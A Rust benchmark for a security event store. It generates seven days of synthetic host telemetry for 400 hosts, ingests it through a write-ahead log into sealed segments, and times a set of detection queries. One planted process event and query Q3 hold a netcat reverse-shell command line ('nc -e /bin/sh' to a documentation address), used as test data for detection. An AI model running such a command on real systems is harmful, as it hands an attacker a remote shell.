//! The store's figures, as storage-facts.md section 2 asks for them: `cargo run --release -p collector --example bench_store [events] [folder]`.
//!
//! A seeded generator makes a city of 400 hosts over 7 days (flow 45 %, dns 20 %, auth 10 %, file 11 %, process 14 %). Ingest goes the whole
//! way: packed wire batch → write-ahead log (`fdatasync`) → read back → unpacked and decoded → memtable → sorted, sealed segments. CPU time is
//! of this process, user and system, from /proc/self/stat; making the batches is not in it. Queries: warm, median of 7, one thread.

use std::net::Ipv4Addr;
use std::path::PathBuf;
use std::sync::Arc;

use collector::store::{CountBy, Cursor, DiskConfig, DiskStore, EventStore, Filter, Frame, Header, Query, Scope, Wal, WalConfig};
use event::{AgentId, Class, Epoch, Event, EventId, Kind, LogSource, SECOND_NS, Severity, Timestamp, field};

const START: i64 = 1_789_000_000;
const DAYS: i64 = 7;
const HOSTS: u64 = 400;
const BATCH: usize = 500;

fn main() {
    let mut args = std::env::args().skip(1);
    let total: u64 = args.next().and_then(|a| a.parse().ok()).unwrap_or(1_000_000);
    let keep = args.next().map(PathBuf::from);
    let temporary = tempfile::tempdir().expect("a temporary folder");
    let folder = keep.unwrap_or_else(|| temporary.path().to_path_buf());
    let (frames, sample) = batches(total);
    let wire_bytes: usize = frames.iter().map(|f| f.bytes.len()).sum();
    println!("{total} events in {} batches, {:.1} B/event on the wire", frames.len(), wire_bytes as f64 / total as f64);

    let (wal, _) = Wal::open(&folder.join("wal"), WalConfig::default()).expect("the log opens");
    let disk = DiskConfig { thread: false, ..DiskConfig::new(folder.join("events")) };
    let store = DiskStore::open(disk).expect("the store opens");
    let mut meter = Meter::start();
    let mut tickets = std::collections::VecDeque::new();
    for frame in frames {
        tickets.push_back(wal.append(frame));
        // As many batches on the way as agents would have.
        if tickets.len() >= 64
            && let Some(oldest) = tickets.pop_front()
        {
            oldest.wait().expect("the log takes it");
        }
    }
    for ticket in tickets {
        ticket.wait().expect("the log takes it");
    }
    meter.lap("log: append and fdatasync", total);
    println!("    {:?}", wal.stats());
    let mut reader = wal.read(wal.oldest()).expect("the log can be read");
    let (mut decode_s, mut seal_s) = (0.0, 0.0);
    let mut rows = 0;
    while let Some(entry) = reader.next().expect("the log can be read") {
        let before = cpu();
        let events = decode(&entry.frame);
        decode_s += cpu() - before;
        rows += events.len();
        store.append(entry.next, &events).expect("the store takes it");
        if rows >= 262_144 {
            rows = 0;
            let before = cpu();
            store.seal().expect("a segment is sealed");
            seal_s += cpu() - before;
        }
    }
    store.seal().expect("a segment is sealed");
    meter.lap("read, decode, memtable, segments", total);
    println!("    of that: decode {decode_s:.2} CPU-s, sealing (but the last) {seal_s:.2} CPU-s");
    meter.total("INGEST wire batch -> durable -> decoded -> segment", total);
    sizes(&folder, &store, total, "sealed");
    questions(&store, &sample);
    while store.compact(Timestamp::from_secs(START)).expect("segments are joined") {}
    let stats = store.stats();
    println!("after compaction: {} segments, {:.1} B/event", stats.segments, stats.segment_bytes as f64 / total as f64);
    let again = DiskStore::open(DiskConfig { thread: false, ..DiskConfig::new(folder.join("events")) });
    let before = cpu();
    drop(again);
    println!("open: {:.1} CPU-ms", (cpu() - before) * 1e3);
    println!("peak memory: {} MB", status_kb("VmHWM") / 1024);
}

/// The questions of section 2.
fn questions(store: &DiskStore, sample: &Event) {
    let end = Timestamp::from_secs(START + DAYS * 86_400);
    let back = |s: i64| end.plus_secs(-s);
    let week = back(DAYS * 86_400);
    let ask = |from, filter, limit| Query::new(from, end, filter, limit);
    let hashes: Vec<String> = (0..500u64).map(|n| format!("{:064x}", u128::from(n).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c))).collect();
    let some_hash = sample.text(field::FILE_SHA256).into_owned();
    let with_hit: Vec<String> = hashes.iter().cloned().chain([some_hash]).collect();
    let rows = |name: &str, q: Query| {
        let found = store.search(&Scope::CITY, &q).expect("a page");
        let ms = median(|| drop(store.search(&Scope::CITY, &q)));
        println!(
            "{name:<52} {ms:>9.2} ms  {:>6} rows  {} groups read, {} ruled out",
            found.events.len(),
            found.searched.groups_read,
            found.searched.groups_skipped
        );
    };
    let count = |name: &str, q: Query, by: CountBy| {
        let found = store.count_by(&Scope::CITY, &q, &by).expect("a count");
        let ms = median(|| drop(store.count_by(&Scope::CITY, &q, &by)));
        println!("{name:<52} {ms:>9.2} ms  {:>6} groups of {} events", found.groups.len(), found.total);
    };
    rows("Q1  one host, last 15 min", ask(back(900), Filter::eq(field::DEVICE_HOSTNAME, "host-007"), 200));
    rows("Q2a hot address, 7 d, last 200", ask(week, Filter::eq(field::SRC_IP, "203.0.113.1"), 200));
    let rare = "203.0.113.77";
    rows("Q2b rarer address, source or target, 7 d", ask(week, Filter::eq(field::SRC_IP, rare).or(Filter::eq(field::DST_IP, rare)), 200));
    rows("Q3  part of a command line, 7 d", ask(week, Filter::contains(field::PROCESS_CMD_LINE, "nc -e /bin/sh"), 200));
    let by = |keys: &[event::Field], bucket: Option<i64>, top| CountBy {
        keys: keys.iter().map(|k| (*k).into()).collect(),
        bucket_ns: bucket,
        top,
    };
    count("Q4  count by sector and minute, 24 h", ask(back(86_400), Filter::All, 1), by(&[field::UNIT_SECTOR], Some(60 * SECOND_NS), None));
    count("Q5  top-10 refused sources, 7 d", ask(week, Filter::eq(field::CONN_STATE, "REJ"), 1), by(&[field::SRC_IP], None, Some(10)));
    let ms = median(|| assert!(store.get(&Scope::CITY, sample.id).expect("a look-up").is_some()));
    println!("{:<52} {ms:>9.2} ms", "Q6  one event by id");
    rows("Q7  500 hashes, one of them there, 7 d", ask(week, Filter::any_of(field::FILE_SHA256, &with_hit), 200));
    rows("    500 hashes, none there, 7 d", ask(week, Filter::any_of(field::FILE_SHA256, &hashes), 200));
    rows(
        "    absent address, source or target, 7 d",
        ask(week, Filter::eq(field::SRC_IP, "198.18.0.1").or(Filter::eq(field::DST_IP, "198.18.0.1")), 200),
    );
    rows("    absent name, 7 d", ask(week, Filter::eq(field::DNS_QUERY, "evil.example.invalid"), 200));
    rows("    newest 100 events", ask(week, Filter::All, 100));
    let middle = Query { cursor: Some(Cursor { time: back(3 * 86_400), id: sample.id }), ..ask(week, Filter::All, 100) };
    rows("    a page from the middle", middle);
    rows("    severity >= high, 7 d", ask(week, Filter::at_least(Header::Severity, 4.0), 200));
    rows("    free text, absent (reads everything)", ask(week, Filter::text("no such words anywhere"), 200));
}

fn sizes(folder: &std::path::Path, store: &DiskStore, total: u64, what: &str) {
    let stats = store.stats();
    let of = |n: u64| n as f64 / total as f64;
    let manifest = ["manifest.db", "manifest.db-wal"]
        .iter()
        .filter_map(|f| std::fs::metadata(folder.join("events").join(f)).ok())
        .map(|m| m.len())
        .sum::<u64>();
    println!(
        "{what}: {} segments, {:.1} B/event + {:.1} B/event manifest with blooms = {:.1} B/event",
        stats.segments,
        of(stats.segment_bytes),
        of(manifest),
        of(stats.segment_bytes + manifest)
    );
}

fn decode(frame: &Frame) -> Vec<Arc<Event>> {
    let unpacked = wire::batch::Batch::from_bytes(frame.bytes.clone()).and_then(|b| b.unpack()).expect("our own batch");
    let mut out = Vec::with_capacity(BATCH);
    for (seq, row) in unpacked.rows() {
        if let wire::batch::Row::Event(bytes) = row {
            let mut event = wire::event::decode(bytes).expect("our own event");
            event.id = EventId { agent: frame.agent, epoch: frame.epoch, class: frame.class, seq };
            out.push(Arc::new(event));
        }
    }
    out
}

/// Packed batches in order of time, and one event to look for.
fn batches(total: u64) -> (Vec<Frame>, Event) {
    let mut chance = Chance(42);
    let mut packer = wire::batch::Packer::new(3);
    let mut lanes: Vec<Lane> = (0..HOSTS * 3).map(|_| Lane { rows: Vec::new(), next_seq: 1 }).collect();
    let mut frames = Vec::new();
    let mut sample = None;
    let mut flush = |at: usize, lane: &mut Lane, now: Timestamp| {
        let class = Class::ALL[at % 3];
        let (first_seq, count) = (lane.next_seq, lane.rows.len() as u64);
        for row in lane.rows.drain(..) {
            assert!(packer.push(wire::batch::Row::Event(&row)), "a batch holds {BATCH} events");
        }
        let batch = packer.pack(class, Epoch(START as u64), first_seq).expect("a batch that is not empty");
        lane.next_seq += count;
        let (agent, epoch) = (AgentId(1 + at as u64 / 3), Epoch(START as u64));
        frames.push(Frame { agent, received: now, class, epoch, first_seq, last_seq: first_seq + count - 1, bytes: batch.to_bytes() });
    };
    for n in 0..total {
        let part = i128::from(n) * i128::from(DAYS * 86_400_000) / i128::from(total);
        let time = Timestamp::from_ms(START * 1_000 + part as i64);
        let host = chance.below(HOSTS);
        let mut event = make(&mut chance, host, time, n);
        let class = event.id.class as usize;
        let at = host as usize * 3 + class;
        let mut raw = Vec::new();
        wire::event::encode(&event, &mut raw);
        let lane = &mut lanes[at];
        lane.rows.push(raw);
        if sample.is_none() && n > total / 2 && event.get(field::FILE_SHA256).is_some() {
            let seq = lane.next_seq + lane.rows.len() as u64 - 1;
            event.id = EventId { agent: AgentId(1 + host), epoch: Epoch(START as u64), class: Class::ALL[class], seq };
            sample = Some(event);
        }
        if lane.rows.len() == BATCH {
            flush(at, lane, time);
        }
    }
    for (at, lane) in lanes.iter_mut().enumerate().filter(|(_, l)| !l.rows.is_empty()) {
        flush(at, lane, Timestamp::from_secs(START + DAYS * 86_400));
    }
    (frames, sample.expect("a file event in the second half"))
}

struct Lane {
    rows: Vec<Vec<u8>>,
    next_seq: u64,
}

const SECTORS: [&str; 5] = ["finance", "energy", "power", "telecom", "transport"];

fn make(chance: &mut Chance, host: u64, time: Timestamp, n: u64) -> Event {
    let own = Ipv4Addr::new(10, (host / 250) as u8, (host % 250) as u8, 10);
    let share = chance.below(100);
    let (mut e, class) = match share {
        0..45 => (flow(chance, own, time), Class::Bulk),
        45..65 => (dns(chance, own, time), Class::Normal),
        65..75 => (logon(chance, time), Class::Critical),
        75..86 => (file(chance, time, n), Class::Critical),
        _ => (process(chance, time, n), Class::Normal),
    };
    e.id.class = class;
    if chance.below(100) < 2 {
        e.severity = Severity::High;
    }
    let unit = host % 40;
    e.body.set(field::DEVICE_HOSTNAME, format!("host-{host:03}"));
    e.body.set(field::DEVICE_IP, std::net::IpAddr::from(own));
    e.body.set(field::UNIT_ID, format!("unit-{unit:02}"));
    e.body.set(field::UNIT_NAME, format!("第{unit}单位"));
    e.body.set(field::UNIT_SECTOR, SECTORS[unit as usize % 5]);
    e.body.set(field::OBJECT_IMPORTANCE, 1 + unit % 3);
    e.body.set(field::AGENT_ID, AgentId(1 + host).to_string());
    e.body.set(field::RECEIVED_TIME, time.ms() + 40 + (n / 500 % 20) as i64);
    e
}

fn outside(chance: &mut Chance) -> std::net::IpAddr {
    // A few addresses are everywhere, most are seen seldom.
    match chance.below(100) {
        0..5 => Ipv4Addr::new(203, 0, 113, 1).into(),
        5..60 => Ipv4Addr::new(203, 0, 113, (chance.below(200) + 2) as u8).into(),
        _ => Ipv4Addr::from(0x2d00_0000 + chance.below(60_000) as u32).into(),
    }
}

fn flow(chance: &mut Chance, own: Ipv4Addr, time: Timestamp) -> Event {
    let inbound = chance.below(4) == 0;
    let (a, b) = (outside(chance), std::net::IpAddr::from(own));
    let (src, dst) = if inbound { (a, b) } else { (b, a) };
    let state = ["SF", "SF", "SF", "SF", "S0", "REJ", "RSTO", "SF", "SF", "SF"][chance.below(10) as usize];
    let (out, back) = (200 + chance.below(4_000), 100 + chance.below(60_000));
    Event::new(time, Kind::NetworkActivity, 2, LogSource::new("", "network_connection", "flow"))
        .with(field::SRC_IP, src)
        .with(field::SRC_PORT, 32_768 + chance.below(28_000))
        .with(field::DST_IP, dst)
        .with(field::DST_PORT, [443u64, 443, 443, 80, 53, 22, 3389, 8080, 25, 445][chance.below(10) as usize])
        .with(field::PROTOCOL, if chance.below(10) == 0 { "udp" } else { "tcp" })
        .with(field::DIRECTION_ID, if inbound { 1u8 } else { 2 })
        .with(field::CONN_STATE, state)
        .with(field::BYTES_OUT, out)
        .with(field::BYTES_IN, back)
        .with(field::PACKETS_OUT, out / 400 + 1)
        .with(field::PACKETS_IN, back / 1_200 + 1)
        .with(field::DURATION_MS, chance.below(30_000))
}

fn dns(chance: &mut Chance, own: Ipv4Addr, time: Timestamp) -> Event {
    let name = chance.below(5_000);
    Event::new(time, Kind::DnsActivity, 2, LogSource::new("", "dns", "dns"))
        .with(field::SRC_IP, std::net::IpAddr::from(own))
        .with(field::DST_IP, std::net::IpAddr::from([10, 0, 0, 53]))
        .with(field::DST_PORT, 53u8)
        .with(field::SRC_PORT, 32_768 + chance.below(28_000))
        .with(field::DNS_QUERY, format!("www{}.site-{name}.example", name % 7))
        .with(field::DNS_TYPE, ["A", "A", "AAAA", "TXT"][chance.below(4) as usize])
        .with(field::DNS_RCODE, if chance.below(20) == 0 { "NXDomain" } else { "NoError" })
        .with(field::DNS_ANSWERS, vec![format!("203.0.113.{}", name % 250)])
}

fn logon(chance: &mut Chance, time: Timestamp) -> Event {
    let failed = chance.below(5) == 0;
    let user = format!("user{}", chance.below(300));
    let src = outside(chance);
    let pid = 1_000 + chance.below(30_000);
    let verb = if failed { "Failed" } else { "Accepted" };
    Event::new(time, Kind::Authentication, 1, LogSource::new("linux", "", "sshd"))
        .with(field::RAW_DATA, format!("sshd[{pid}]: {verb} password for {user} from {src} port {} ssh2", 32_768 + chance.below(28_000)))
        .with(field::LOG_PATH, "/var/log/auth.log")
        .with(field::USER_NAME, user)
        .with(field::SRC_IP, src)
        .with(field::STATUS_ID, if failed { 2u8 } else { 1 })
        .with(field::AUTH_PROTOCOL, "password")
        .with(field::SERVICE_NAME, "sshd")
        .with(field::IS_REMOTE, true)
}

fn file(chance: &mut Chance, time: Timestamp, n: u64) -> Event {
    // Most changed files are versions of the same few thousand.
    let content = if chance.below(10) == 0 { n + 1_000_000 } else { chance.below(4_000) };
    let hash = format!("{:016x}{:016x}{:016x}{:016x}", mix(content), mix(content + 1), mix(content + 2), mix(content + 3));
    Event::new(time, Kind::FileActivity, 3, LogSource::new("linux", "file_event", "fim"))
        .with(field::FILE_PATH, format!("/var/lib/app{}/data/item-{}.bin", content % 30, content % 3_000))
        .with(field::FILE_NAME, format!("item-{}.bin", content % 3_000))
        .with(field::FILE_SHA256, hash)
        .with(field::FILE_SIZE, content * 37 % 1_000_000)
        .with(field::FILE_CHANGES, vec!["content".to_owned()])
}

fn process(chance: &mut Chance, time: Timestamp, n: u64) -> Event {
    let name = ["bash", "python3", "curl", "systemd", "cron", "java", "nginx", "sh"][chance.below(8) as usize];
    let cmd = if n % 50_000 == 17 {
        "nc -e /bin/sh 203.0.113.9 4444".to_owned()
    } else {
        format!("/usr/bin/{name} --config /etc/{name}/{}.conf --worker {}", chance.below(50), chance.below(1_000))
    };
    Event::new(time, Kind::ProcessActivity, 1, LogSource::new("linux", "process_creation", ""))
        .with(field::PROCESS_NAME, name)
        .with(field::PROCESS_CMD_LINE, cmd)
        .with(field::PROCESS_PATH, format!("/usr/bin/{name}"))
        .with(field::PROCESS_PID, 1_000 + chance.below(60_000))
        .with(field::PARENT_PID, 1 + chance.below(1_000))
        .with(field::PARENT_NAME, "systemd")
        .with(field::USER_NAME, ["root", "www-data", "app", "postgres"][chance.below(4) as usize])
}

/// SplitMix64: the same seed gives the same city.
struct Chance(u64);

fn mix(n: u64) -> u64 {
    let mut z = n.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

impl Chance {
    fn below(&mut self, n: u64) -> u64 {
        self.0 = self.0.wrapping_add(1);
        mix(self.0) % n
    }
}

#[expect(clippy::disallowed_methods, reason = "a benchmark measures time")]
fn instant() -> std::time::Instant {
    std::time::Instant::now()
}

fn median(mut f: impl FnMut()) -> f64 {
    f();
    let mut runs: Vec<f64> = (0..7)
        .map(|_| {
            let start = instant();
            f();
            start.elapsed().as_secs_f64() * 1e3
        })
        .collect();
    runs.sort_by(f64::total_cmp);
    runs[3]
}

struct Meter {
    began: (std::time::Instant, f64),
    lap: (std::time::Instant, f64),
}

impl Meter {
    fn start() -> Self {
        let now = (instant(), cpu());
        Self { began: now, lap: now }
    }
    fn lap(&mut self, name: &str, events: u64) {
        say(name, self.lap, events);
        self.lap = (instant(), cpu());
    }
    fn total(&self, name: &str, events: u64) {
        say(name, self.began, events);
    }
}

fn say(name: &str, since: (std::time::Instant, f64), events: u64) {
    let (wall, used) = (since.0.elapsed().as_secs_f64(), cpu() - since.1);
    println!("{name}: {wall:.2} s wall, {used:.2} CPU-s, {:.0} events/CPU-s, {:.0} events/s", events as f64 / used, events as f64 / wall);
}

/// CPU seconds of this process so far; the kernel counts in hundredths.
fn cpu() -> f64 {
    let stat = std::fs::read_to_string("/proc/self/stat").unwrap_or_default();
    let after = stat.rsplit_once(')').map_or("", |p| p.1);
    let ticks: f64 = after.split_whitespace().skip(11).take(2).filter_map(|t| t.parse::<f64>().ok()).sum();
    ticks / 100.0
}

fn status_kb(key: &str) -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status.lines().find_map(|l| l.strip_prefix(key)?.trim_start_matches(':').trim().trim_end_matches(" kB").parse().ok()).unwrap_or(0)
}
